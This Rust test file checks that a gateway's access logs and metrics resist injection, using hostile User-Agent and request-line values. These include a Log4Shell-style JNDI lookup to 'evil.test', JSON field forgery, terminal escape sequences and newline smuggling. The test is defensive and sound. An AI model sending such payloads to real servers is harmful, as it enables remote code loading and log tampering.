//! What a client writes into logs and metrics: neither a line of its own, nor a label, nor a secret.

use crate::gateway::soon;
use crate::site::Site;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn nobody_starts_a_line_or_hides_one() {
    let site = Site::start().await;
    let agents: [&[u8]; 6] = [
        b"x\", \"person\": \"admin",
        b"\x1b[2K\x1b[1A",
        "\u{2028}\u{202e}\u{85}{\"status\":200}".as_bytes(),
        b"\xff\xfe\xc3(",
        b"${jndi:ldap://evil.test/x}",
        b"%0a{\"forged\":true}\\n",
    ];
    for agent in agents {
        let mut bytes = format!(
            "GET /log?secret=hush HTTP/1.1\r\nHost: emr.test\r\nCookie: {}\r\n",
            site.cookie("emr.test")
        )
        .into_bytes();
        bytes.extend_from_slice(b"User-Agent: ");
        bytes.extend_from_slice(agent);
        bytes.extend_from_slice(b"\r\nAuthorization: Bearer hush\r\n\r\n");
        site.ask(bytes).await;
    }
    for head in [
        "GET /log%0a%22forged HTTP/1.1\r\nHost: emr.test\r\n\r\n",
        "FORGED /x HTTP/1.1\r\nHost: emr.test\r\n\r\n",
        "GET /x HTTP/1.1\r\nHost: forged.test\r\n\r\n",
        "GET /.vestibule/enter?t=hush HTTP/1.1\r\nHost: emr.test\r\n\r\n",
    ] {
        site.ask(head).await;
    }
    // What comes after it is in the log: then all of these are.
    site.ask(site.head("GET /the/last/line", &[])).await;
    let path = site.gateway.path("access.jsonl");
    let read = || std::fs::read_to_string(&path).unwrap_or_default();
    soon("the log is written", async || {
        read().contains("/the/last/line")
    })
    .await;
    let log = read();
    assert!(log.is_ascii(), "a control of another alphabet");
    let secret = site
        .cookie("emr.test")
        .split_once('.')
        .unwrap()
        .1
        .to_owned();
    assert!(
        !log.contains("hush") && !log.contains(&secret),
        "a secret: {log}"
    );
    let mut agents_seen = 0;
    for line in log.lines() {
        let line: serde_json::Value =
            serde_json::from_str(line).unwrap_or_else(|_| panic!("no line: {line}"));
        assert!(line.get("forged").is_none(), "{line}");
        assert_ne!(line["person"], "admin", "{line}");
        agents_seen += usize::from(line["path"] == "/log");
        for key in [
            "time",
            "request_id",
            "method",
            "host",
            "path",
            "status",
            "address",
            "decision",
            "reason",
        ] {
            assert!(line.get(key).is_some(), "{key} is missing: {line}");
        }
    }
    assert!(agents_seen >= 4, "{log}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn nobody_makes_a_label() {
    let site = Site::start().await;
    for number in 0..30 {
        for head in [
            format!("INVENTED{number} /x HTTP/1.1\r\nHost: emr.test\r\n\r\n"),
            format!("GET /invented{number} HTTP/1.1\r\nHost: emr.test\r\n\r\n"),
            format!("GET / HTTP/1.1\r\nHost: invented{number}.test\r\n\r\n"),
            format!("GET / HTTP/1.1\r\nHost: emr.test\r\nUser-Agent: invented{number}\r\n\r\n"),
            format!("GET / HTTP/1.1\r\nHost: emr.test\r\nInvented{number}: x\r\n\r\n"),
        ] {
            site.ask(head).await;
        }
    }
    let metrics = site.gateway.metrics().await;
    assert!(metrics.contains("vestibule_"), "{metrics}");
    assert!(!metrics.to_lowercase().contains("invented"), "{metrics}");
    // Metrics and health are on their own listener alone.
    for path in ["/metrics", "/healthz", "/readyz", "/debug", "/admin"] {
        let reply = site
            .ask(format!("GET {path} HTTP/1.1\r\nHost: emr.test\r\n\r\n"))
            .await;
        assert_eq!(reply.status, 401, "{path}");
        let mut portal = crate::wire::Wire::open(site.gateway.address, "login.test").await;
        let reply = portal
            .ask(format!("GET {path} HTTP/1.1\r\nHost: login.test\r\n\r\n"))
            .await;
        assert_eq!(reply.status, 404, "{path}");
    }
}
